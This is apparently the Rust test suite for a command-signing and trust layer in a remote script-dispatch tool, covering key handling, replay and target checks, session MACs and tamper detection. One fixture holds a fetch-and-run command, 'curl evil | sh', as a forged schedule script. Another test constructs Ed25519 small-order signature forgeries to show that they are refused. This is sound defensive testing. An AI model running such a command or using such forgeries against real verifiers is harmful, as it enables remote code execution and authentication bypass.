    fn header(target: &str, issued_at: u64, not_after: Option<u64>) -> Envelope<()> {
        Envelope::new(Kind::StartScriptV2, target, issued_at, not_after, ())
    }

    fn start_bytes(target: &str) -> Vec<u8> {
        let start = StartScriptV2 {
            ticket: Ticket::generate(),
            spec: crate::ScriptSpec { script: "echo hi".into(), ..Default::default() },
            wait_for_output: None,
            first_issued_at: None,
        };
        crate::Request::StartScriptV2(start).encode(target, 1_000, Some(61_000)).unwrap().1
    }

    const ME: Identity<'static> = Identity { agent_id: "web-01", pool: Some("workers") };

    #[test]
    fn a_schedules_signature_covers_its_whole_record_and_is_no_commands() {
        let (service, other) = (key(7), key(8));
        let record = br#"{"name":"rotate-logs","cron":"0 2 * * *","script":"logrotate"}"#;
        let seal = service.seal_schedule(record);
        assert_eq!(check_schedule(service.public(), Ok(Some(seal.clone())), record).unwrap(), service.id());
        let changed = br#"{"name":"rotate-logs","cron":"0 2 * * *","script":"curl evil | sh"}"#;
        assert!(matches!(
            check_schedule(service.public(), Ok(Some(seal.clone())), changed),
            Err(Forged::BadSignature(_))
        ));
        let by_other = other.seal_schedule(record);
        assert!(matches!(check_schedule(service.public(), Ok(Some(by_other)), record), Err(Forged::UnpinnedKey(_))));
        assert!(matches!(check_schedule(service.public(), Ok(None), record), Err(Forged::Unsigned)));
        // A command's signature over the same bytes is not a schedule's, nor the reverse.
        let command = service.seal_command(record);
        assert!(check_schedule(service.public(), Ok(Some(command)), record).is_err());
        let trusted = TrustedKeys::of([*service.public()]);
        assert!(check_command_seal(&trusted, false, Ok(Some(seal)), record, None).is_err());
    }

    #[test]
    fn a_signature_is_verified_over_the_parts_as_over_their_concatenation() {
        let signer = key(3);
        let parts: [&[u8]; 3] = [b"cuttle ", b"", b"command body"];
        let signature = signer.key.sign(&parts.concat()).to_bytes();
        assert!(signer.public.verifies(&parts, &signature));
        assert!(signer.public.verifies(&[b"cuttle command body"], &signature), "however the message is cut");
        assert!(!signer.public.verifies(&[b"cuttle command bodY"], &signature));
        assert!(!signer.public.verifies(&[b"cuttle command body", b"!"], &signature));
        assert!(!key(4).public.verifies(&parts, &signature), "another key's");
    }

    /// The stream verifier the parts are checked with is not strict by itself: these forgeries
    /// pass it, and `verify_strict` refuses them, so `verifies` must too.
    #[test]
    fn a_signature_over_parts_is_checked_as_strictly_as_verify_strict() {
        use curve25519_dalek::{constants::ED25519_BASEPOINT_POINT, Scalar};
        use sha2::Digest;
        let passes_stream_alone = |public: &PublicKey, message: &[u8], forged: &[u8; 64]| {
            let mut stream = public.key.verify_stream(&Signature::from_bytes(forged)).unwrap();
            stream.update(message);
            stream.finalize_and_verify().is_ok()
        };
        let mut identity = [0u8; 32];
        identity[0] = 1;
        // A weak key (the identity point): R the identity and s = 0 verify for any message.
        let weak = PublicKey::new(VerifyingKey::from_bytes(&identity).unwrap());
        let mut forged = [0u8; 64];
        forged[..32].copy_from_slice(&identity);
        assert!(passes_stream_alone(&weak, b"any message", &forged));
        assert!(weak.key.verify_strict(b"any message", &Signature::from_bytes(&forged)).is_err());
        assert!(!weak.verifies(&[b"any ", b"message"], &forged));
        // A real key, and an R of small order (the identity): s = k·a makes -[k]A + [s]B = R.
        let a = Scalar::from(123_456_789u64);
        let public = PublicKey::new(VerifyingKey::from(ED25519_BASEPOINT_POINT * a));
        let hash = sha2::Sha512::new()
            .chain_update(identity)
            .chain_update(public.key.as_bytes())
            .chain_update(b"any message")
            .finalize();
        let k = Scalar::from_bytes_mod_order_wide(&hash.into());
        let mut forged = [0u8; 64];
        forged[..32].copy_from_slice(&identity);
        forged[32..].copy_from_slice((k * a).as_bytes());
        assert!(passes_stream_alone(&public, b"any message", &forged));
        assert!(public.key.verify_strict(b"any message", &Signature::from_bytes(&forged)).is_err());
        assert!(!public.verifies(&[b"any message"], &forged));
    }

    #[test]
    fn public_keys_and_secret_keys_round_trip_through_text() {
        let secret = key(7);
        let public = PublicKey::parse(&secret.public().to_string()).unwrap();
        assert_eq!(&public, secret.public());
        assert_eq!(public.id().to_string().len(), 16);
        assert_eq!(SecretKey::from_text(&secret.to_text()).unwrap().id(), secret.id());
        assert!(PublicKey::parse("ssh-ed25519:AAAA").is_err());
        assert!(PublicKey::parse("ed25519:AAAA").is_err(), "too short");
        assert!(!format!("{secret:?}").contains(&BASE64.encode(secret.key.to_bytes())), "debug hides the secret");
    }

    #[test]
    fn key_files_are_private_and_never_overwritten() {
        use std::os::unix::fs::PermissionsExt;
        let dir = std::env::temp_dir().join(format!("cuttle-trust-{}", uuid::Uuid::new_v4()));
        let path = dir.join("sub").join("agent.key");
        let (created, fresh) = SecretKey::load_or_create(&path).unwrap();
        assert!(fresh);
        assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
        let (loaded, fresh) = SecretKey::load_or_create(&path).unwrap();
        assert!(!fresh);
        assert_eq!(loaded.id(), created.id());
        assert!(matches!(SecretKey::create(&path), Err(KeyError::Exists { .. })));
        assert_eq!(SecretKey::load(&path).unwrap().id(), created.id(), "the file was left as it was");
        std::fs::write(dir.join("junk"), "hello").unwrap();
        assert!(matches!(SecretKey::load(&dir.join("junk")), Err(KeyError::NotAKey { .. })));
        std::fs::remove_dir_all(dir).unwrap();
    }

    #[test]
    fn trusted_keys_files_parse_with_comments_and_report_bad_lines() {
        let (a, b) = (key(1), key(2));
        let text = format!("# dispatchers\n{} ci\n\n  {} old laptop\n", a.public(), b.public());
        let trusted = TrustedKeys::parse(&text).unwrap();
        assert_eq!(trusted.len(), 2);
        assert!(trusted.get(a.id()).is_some() && trusted.get(b.id()).is_some());
        assert_eq!(TrustedKeys::parse("# x\nnot-a-key\n").unwrap_err().0, 2);
    }

    #[test]
    fn known_agents_files_parse_agents_pools_and_legacy() {
        let (a, b, c) = (key(1), key(2), key(3));
        let text = format!(
            "web-01 {} rotated in 2026\nweb-01 {}\npool:workers {}\npool:workers {}\nold-box legacy\n",
            a.public(),
            b.public(),
            b.public(),
            c.public()
        );
        let known = KnownAgents::parse(&text).unwrap();
        assert_eq!(known.pin("web-01"), Some(&Pin::Keys(vec![*a.public(), *b.public()])));
        assert_eq!(known.pin("pool:workers"), Some(&Pin::Keys(vec![*b.public(), *c.public()])));
        assert_eq!(known.pin("old-box"), Some(&Pin::Legacy));
        assert_eq!(known.pin("workers"), None, "a pool's pin is not an agent's");
        assert_eq!(known.pin("web-02"), None);
        for bad in ["web-01", "web 01 legacy", &format!("x legacy\nx {}", a.public()), "pool:p legacy", "a:b legacy"] {
            assert!(KnownAgents::parse(bad).is_err(), "{bad:?} is refused");
        }
    }

    #[test]
    fn a_command_signed_by_a_trusted_key_passes_every_check() {
        let dispatcher = key(1);
        let trusted = TrustedKeys::of([*dispatcher.public()]);
        let body = start_bytes("web-01");
        let seal = dispatcher.seal_command(&body);
        let [(_, key_header), (_, sig_header)] = seal.to_headers();
        let read = Seal::from_headers(SealHeaders {
            key: Some(&key_header),
            signature: Some(&sig_header),
            ..Default::default()
        });
        assert_eq!(check_command_seal(&trusted, false, read, &body, None), Ok(Origin::Key(dispatcher.id())));
        let (header, _) = crate::Request::decode(&body).unwrap();
        assert_eq!(check_command_header(&header, ME, 30_000), Ok(()));
    }

    #[test]
    fn commands_without_a_good_seal_are_refused() {
        let (dispatcher, stranger) = (key(1), key(2));
        let trusted = TrustedKeys::of([*dispatcher.public()]);
        let body = start_bytes("web-01");
        assert_eq!(check_command_seal(&trusted, false, Ok(None), &body, None), Err(Refusal::Unsigned));
        assert_eq!(check_command_seal(&trusted, true, Ok(None), &body, None), Ok(Origin::Unsigned));
        let foreign = stranger.seal_command(&body);
        assert_eq!(
            check_command_seal(&trusted, true, Ok(Some(foreign)), &body, None),
            Err(Refusal::UntrustedKey(stranger.id()))
        );
        let answer_seal = dispatcher.seal_answer("", &body);
        assert_eq!(
            check_command_seal(&trusted, true, Ok(Some(answer_seal)), &body, None),
            Err(Refusal::BadSignature(dispatcher.id())),
            "an answer's signature is no command's"
        );
        assert!(matches!(
            check_command_seal(
                &trusted,
                true,
                Seal::from_headers(SealHeaders { key: Some("00"), ..Default::default() }),
                &body,
                None
            ),
            Err(Refusal::BadHeaders(_))
        ));
        let headers = |key, signature| SealHeaders { key: Some(key), signature: Some(signature), ..Default::default() };
        assert!(Seal::from_headers(headers("0011223344556677", "AAAA")).is_err());
        // Revoked: the key is no longer in the file.
        let seal = dispatcher.seal_command(&body);
        assert_eq!(
            check_command_seal(&TrustedKeys::default(), false, Ok(Some(seal)), &body, None),
            Err(Refusal::UntrustedKey(dispatcher.id()))
        );
    }

    #[test]
    fn envelopes_are_checked_for_target_and_deadline() {
        let at = 1_000_000;
        let ok = |target: &str, not_after| check_command_header(&header(target, at, not_after), ME, at);
        assert_eq!(ok("web-01", Some(at + 60_000)), Ok(()));
        assert_eq!(ok("pool:workers", Some(at + 60_000)), Ok(()));
        assert!(matches!(ok("web-02", Some(at + 60_000)), Err(Refusal::Misaddressed { .. })));
        assert!(matches!(ok("workers", Some(at + 60_000)), Err(Refusal::Misaddressed { .. })), "bare pool name");
        assert!(matches!(ok("pool:other", Some(at + 60_000)), Err(Refusal::Misaddressed { .. })));
        let alone = Identity { agent_id: "web-01", pool: None };
        assert!(check_command_header(&header("pool:web-01", at, Some(at + 1)), alone, at).is_err());
        assert_eq!(ok("web-01", None), Err(Refusal::NoDeadline));
        assert_eq!(ok("web-01", Some(at + MAX_COMMAND_WINDOW_MS)), Ok(()));
        assert_eq!(
            ok("web-01", Some(at + MAX_COMMAND_WINDOW_MS + 1)),
            Err(Refusal::WindowTooLong { window_ms: MAX_COMMAND_WINDOW_MS + 1 })
        );
        let late = |now| check_command_header(&header("web-01", at, Some(at + 10)), ME, now);
        assert_eq!(late(at + 10 + CLOCK_SKEW_ALLOWANCE_MS), Ok(()), "within the skew allowance");
        assert_eq!(late(at + 11 + CLOCK_SKEW_ALLOWANCE_MS), Err(Refusal::Expired));
        assert_eq!(Refusal::Expired.counted_as(), crate::ErrorKind::Expired);
        assert_eq!(Refusal::Unsigned.counted_as(), crate::ErrorKind::NotAuthorized);
    }

    #[test]
    fn answers_count_only_from_a_pinned_key_for_their_own_request() {
        let (agent, other) = (key(5), key(6));
        let pin = Pin::Keys(vec![*agent.public()]);
        let body = b"answer".to_vec();
        let seal = agent.seal_answer("req-1", &body);
        assert_eq!(check_answer(&pin, "req-1", Ok(Some(seal.clone())), &body, None), Ok(Believed::Key(agent.id())));
        assert_eq!(
            check_answer(&pin, "req-2", Ok(Some(seal)), &body, None),
            Err(Forged::BadSignature(agent.id())),
            "an old answer replayed to another request"
        );
        assert_eq!(check_answer(&pin, "req-1", Ok(None), &body, None), Err(Forged::Unsigned));
        let impostor = other.seal_answer("req-1", &body);
        assert_eq!(check_answer(&pin, "req-1", Ok(Some(impostor)), &body, None), Err(Forged::UnpinnedKey(other.id())));
        assert_eq!(check_answer(&Pin::Legacy, "req-1", Ok(None), &body, None), Ok(Believed::Legacy));
        let command_seal = agent.seal_command(&body);
        assert!(
            check_answer(&pin, "", Ok(Some(command_seal)), &body, None).is_err(),
            "a command's signature is no answer's"
        );
    }

    #[test]
    fn an_answer_counts_only_for_the_very_request_it_names() {
        use crate::{request_digest, InReplyTo, Reply, ScriptState, ScriptStatus};
        let asked = Ticket::generate();
        let sent = start_bytes("web-01");
        let digest = request_digest(&sent);
        let status = |ticket: &Ticket| {
            Reply::ScriptStatus(ScriptStatus {
                ticket: ticket.clone(),
                state: ScriptState::Complete,
                exit_code: Some(0),
                logs: vec![],
                next_log_sequence: 1,
                lines_written: None,
            })
        };
        let refusal = Reply::Error(crate::ErrorReply::new(crate::ErrorKind::NotAuthorized, "unsigned command"));
        let key = Believed::Key(key(5).id());
        let check = |named: Option<InReplyTo>, reply: &Reply, strict| {
            check_binding(named.as_ref(), &digest, Some(&asked), reply, key, strict)
        };
        let this = |ticket: Option<&Ticket>| Some(InReplyTo::new(digest, ticket.cloned()));
        assert_eq!(check(this(Some(&asked)), &status(&asked), true), Ok(Binding::Bound));
        assert_eq!(check(this(None), &refusal, true), Ok(Binding::Bound), "a refusal before the ticket was read");
        // The agent's refusal of an attacker's junk sent under this request's correlation id.
        let junk = Some(InReplyTo::new(request_digest(b"junk"), None));
        assert_eq!(check(junk, &refusal, false), Err(Forged::OtherRequest));
        // An old command of a finished ticket replayed under this request's ids: both differ.
        let old = Ticket::generate();
        let replayed = Some(InReplyTo::new(request_digest(&start_bytes("web-01")), Some(old.clone())));
        assert_eq!(check(replayed, &status(&old), false), Err(Forged::OtherRequest));
        assert_eq!(
            check(this(Some(&old)), &refusal, false),
            Err(Forged::OtherTicket { asked: asked.clone(), answered: old.clone() })
        );
        // An agent of the release before: believed, to be warned of; refused when strict. A
        // status of another ticket never counts, bound or not.
        assert_eq!(check(None, &status(&asked), false), Ok(Binding::Unbound));
        assert_eq!(check(None, &status(&asked), true), Err(Forged::Unbound));
        assert!(matches!(check(None, &status(&old), false), Err(Forged::OtherTicket { .. })));
        let legacy = check_binding(None, &digest, Some(&asked), &status(&asked), Believed::Legacy, true);
        assert_eq!(legacy, Ok(Binding::Unbound), "a legacy pin is believed unsigned, as it always was");
        assert_eq!(
            check(this(Some(&Ticket::parse(&asked.to_string().to_uppercase()).unwrap())), &status(&asked), true),
            Ok(Binding::Bound),
            "tickets compare case-insensitively"
        );
    }

    #[test]
    fn announcements_count_only_under_the_key_pinned_for_their_agent_or_else_its_pool() {
        let (agent, pool_key, other) = (key(5), key(6), key(7));
        let known = KnownAgents::parse(&format!(
            "web-01 {}\npool:workers {}\nold-box legacy\n",
            agent.public(),
            pool_key.public()
        ))
        .unwrap();
        let body = b"announcement".to_vec();
        let check = |id: &str, pool: Option<&str>, seal: Option<Seal>| {
            known.pin_of_agent(id, pool).map(|pin| check_announcement(pin, Ok(seal), &body))
        };
        let own = agent.seal_announcement(&body);
        assert_eq!(check("web-01", None, Some(own.clone())), Some(Ok(Believed::Key(agent.id()))));
        assert_eq!(check("web-01", Some("workers"), Some(own.clone())), Some(Ok(Believed::Key(agent.id()))));
        let by_pool = pool_key.seal_announcement(&body);
        assert_eq!(check("w-7", Some("workers"), Some(by_pool.clone())), Some(Ok(Believed::Key(pool_key.id()))));
        assert_eq!(
            check("web-01", Some("workers"), Some(by_pool)),
            Some(Err(Forged::UnpinnedKey(pool_key.id()))),
            "a pool key never speaks for an agent pinned by id"
        );
        assert_eq!(check("w-7", None, Some(own.clone())), None, "no pin: neither the id nor a pool");
        assert_eq!(check("w-7", Some("other"), Some(own.clone())), None);
        let stranger = other.seal_announcement(&body);
        assert_eq!(check("web-01", None, Some(stranger)), Some(Err(Forged::UnpinnedKey(other.id()))));
        assert_eq!(check("web-01", None, None), Some(Err(Forged::Unsigned)));
        assert_eq!(check("old-box", None, None), Some(Ok(Believed::Legacy)), "legacy, as its answers");
        let pin = known.pin("web-01").unwrap();
        let mut tampered = body.clone();
        tampered[0] ^= 1;
        assert_eq!(check_announcement(pin, Ok(Some(own)), &tampered), Err(Forged::BadSignature(agent.id())));
        let answer = agent.seal_answer("", &body);
        assert_eq!(
            check_announcement(pin, Ok(Some(answer)), &body),
            Err(Forged::BadSignature(agent.id())),
            "an answer's signature is no announcement's"
        );
        let command = agent.seal_command(&body);
        assert!(check_announcement(pin, Ok(Some(command)), &body).is_err(), "nor is a command's");
    }

    #[test]
    fn commands_and_answers_in_a_session_count_only_with_its_mac_and_while_its_keys_are_trusted() {
        use crate::session::{accept, Offer};
        let (dispatcher, agent) = (key(1), key(5));
        let trusted = TrustedKeys::of([*dispatcher.public()]);
        let offer = Offer::new().unwrap();
        let (share, agents) =
            accept("req-0", offer.share(), dispatcher.id(), agent.id(), &mut crate::session::SystemEntropy).unwrap();
        let dispatchers = offer.complete("req-0", &share, dispatcher.id(), agent.id()).unwrap();
        let body = start_bytes("web-01");
        let seal = dispatchers.seal_command(&body);
        let [(session_name, session), (mac_name, mac)] = seal.to_headers();
        assert_eq!((session_name, mac_name), (SESSION_HEADER, MAC_HEADER));
        let read = Seal::from_headers(SealHeaders { session: Some(&session), mac: Some(&mac), ..Default::default() });
        assert_eq!(read, Ok(Some(seal.clone())));
        let mixed = SealHeaders {
            key: Some("0011223344556677"),
            session: Some(&session),
            mac: Some(&mac),
            ..Default::default()
        };
        assert!(Seal::from_headers(mixed).is_err(), "a signature's headers and a MAC's together");
        let check = |trusted: &TrustedKeys, body: &[u8], session| {
            check_command_seal(trusted, false, Ok(Some(seal.clone())), body, session)
        };
        let origin = Origin::Session { key: dispatcher.id(), session: agents.id() };
        assert_eq!(check(&trusted, &body, Some(&agents)), Ok(origin));
        assert_eq!(check(&trusted, &body, None), Err(Refusal::UnknownSession(agents.id())));
        assert_eq!(Refusal::UnknownSession(agents.id()).answered_as(), crate::ErrorKind::UnknownSession);
        assert!(crate::ErrorKind::UnknownSession.is_transient(), "repeated (signed), it may run");
        let other = accept(
            "req-9",
            Offer::new().unwrap().share(),
            dispatcher.id(),
            agent.id(),
            &mut crate::session::SystemEntropy,
        )
        .unwrap()
        .1;
        assert_eq!(check(&trusted, &body, Some(&other)), Err(Refusal::UnknownSession(agents.id())));
        let mut tampered = body.clone();
        tampered[body.len() / 2] ^= 1;
        assert_eq!(check(&trusted, &tampered, Some(&agents)), Err(Refusal::BadMac(agents.id())));
        assert_eq!(
            check(&TrustedKeys::default(), &body, Some(&agents)),
            Err(Refusal::UntrustedKey(dispatcher.id())),
            "a revoked key's sessions go with it"
        );

        let pin = Pin::Keys(vec![*agent.public()]);
        let answer = agents.seal_answer("req-1", b"answer");
        let believe = |pin: &Pin, request: &str, body: &[u8], session| {
            check_answer(pin, request, Ok(Some(answer.clone())), body, session)
        };
        assert_eq!(believe(&pin, "req-1", b"answer", Some(&dispatchers)), Ok(Believed::Key(agent.id())));
        assert_eq!(believe(&pin, "req-2", b"answer", Some(&dispatchers)), Err(Forged::BadMac(agents.id())));
        assert_eq!(believe(&pin, "req-1", b"answer", None), Err(Forged::OtherSession(agents.id())));
        assert_eq!(believe(&pin, "req-1", b"answer", Some(&other)), Err(Forged::OtherSession(agents.id())));
        let repinned = Pin::Keys(vec![*dispatcher.public()]);
        assert_eq!(believe(&repinned, "req-1", b"answer", Some(&dispatchers)), Err(Forged::UnpinnedKey(agent.id())));
        assert!(
            check_answer(&pin, "", Ok(Some(seal)), &body, Some(&dispatchers)).is_err(),
            "a command's MAC is no answer's"
        );
        assert_eq!(check_announcement(&pin, Ok(Some(answer)), b"answer"), Err(Forged::OtherSession(agents.id())));
    }

    proptest! {
        // Each case signs and verifies in a debug build: enough cases to hit every region of the body.
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn any_change_to_a_signed_command_is_refused(index in any::<prop::sample::Index>(), flip in 1u8..=255) {
            let dispatcher = key(1);
            let trusted = TrustedKeys::of([*dispatcher.public()]);
            let body = start_bytes("web-01");
            let seal = dispatcher.seal_command(&body);
            let mut tampered = body.clone();
            tampered[index.index(body.len())] ^= flip;
            prop_assert_eq!(
                check_command_seal(&trusted, false, Ok(Some(seal)), &tampered, None),
                Err(Refusal::BadSignature(dispatcher.id()))
            );
        }

        #[test]
        fn any_change_to_a_signed_answer_is_not_believed(
            index in any::<prop::sample::Index>(),
            flip in 1u8..=255,
            request in "[a-f0-9-]{36}",
        ) {
            let agent = key(5);
            let pin = Pin::Keys(vec![*agent.public()]);
            let body = start_bytes("web-01");
            let seal = agent.seal_answer(&request, &body);
            let mut tampered = body.clone();
            tampered[index.index(body.len())] ^= flip;
            prop_assert!(check_answer(&pin, &request, Ok(Some(seal.clone())), &tampered, None).is_err());
            let other_request = format!("{request}x");
            prop_assert!(check_answer(&pin, &other_request, Ok(Some(seal)), &body, None).is_err());
        }
    }
}
